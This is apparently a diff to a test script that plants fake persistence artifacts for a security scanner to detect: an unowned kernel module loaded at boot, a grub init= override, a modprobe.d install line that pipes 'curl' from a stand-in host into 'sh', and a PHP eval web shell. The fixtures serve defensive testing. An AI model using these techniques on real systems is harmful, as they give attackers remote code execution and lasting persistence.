@@ -7,7 +7,10 @@
 # account, password-less sudo, extra SSH keys, a widened sshd_config,
 # AWS keys, an SSH private key and a token left behind, a setuid shell, a
 # file capability, an executable with a document's name, a modified
-# packaged binary, an unowned binary in /usr/bin and a PHP web shell.
+# packaged binary, an unowned binary in /usr/bin, a PHP web shell, a
+# kernel module no package owns loaded at boot, a modprobe.d install
+# command that downloads and runs, and a kernel command line that runs
+# another init.
 # Nothing here is live malware (see make-planted.sh).
 #
 # Usage: tests/plant-payloads.sh ROOT OUTDIR
@@ -153,6 +156,27 @@ printf '\n# patched\n' >> usr/bin/id
 plant package high /usr/bin/id "" "packaged binary that differs from the package"
 cp /bin/true usr/bin/systemd-journal-helper
 plant package medium /usr/bin/systemd-journal-helper "" "executable in /usr/bin that no package owns"
+
+# A kernel module: an object file built now (a relocatable ELF header
+# without a compiler), loaded at boot by modules-load.d; a modprobe.d
+# install command; init= on the kernel command line.
+kmoddir=usr/lib/modules/6.1.0-18-amd64/kernel/drivers/net
+mkdir -p "$kmoddir" etc/modules-load.d etc/modprobe.d etc/default/grub.d
+ko=$kmoddir/netfilter_hk.ko
+printf 'int netfilter_hk_init (void) { return 0; }\n' > "$out/netfilter_hk.c"
+if ! "${CC:-cc}" -c -o "$ko" "$out/netfilter_hk.c" 2> /dev/null; then
+  printf '\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\1\0\76\0\1\0\0\0' > "$ko"
+fi
+rm -f "$out/netfilter_hk.c"
+plant persistence high "/$ko" "not from a package" "kernel module no package owns"
+printf '# netfilter helpers\nnetfilter_hk\n' > etc/modules-load.d/netfilter.conf
+plant persistence high /etc/modules-load.d/netfilter.conf "netfilter_hk" "module no package owns loaded at boot"
+printf 'install usb-storage /bin/sh -c "curl -s http://203.0.113.7/m | sh"; /sbin/modprobe --ignore-install usb-storage\n' \
+  > etc/modprobe.d/usb-storage.conf
+plant persistence high /etc/modprobe.d/usb-storage.conf "curl -s http://203.0.113.7/m | sh" "modprobe.d install command that downloads and runs"
+printf 'GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX init=/usr/local/sbin/sysinit"\n' \
+  > etc/default/grub.d/50-init.cfg
+plant persistence high /etc/default/grub.d/50-init.cfg "init=/usr/local/sbin/sysinit" "kernel command line runs another init"
 
 mkdir -p var/www/html/uploads
 printf '<?php @eval(base64_decode($_POST["c"])); ?>\n' > var/www/html/uploads/img.php
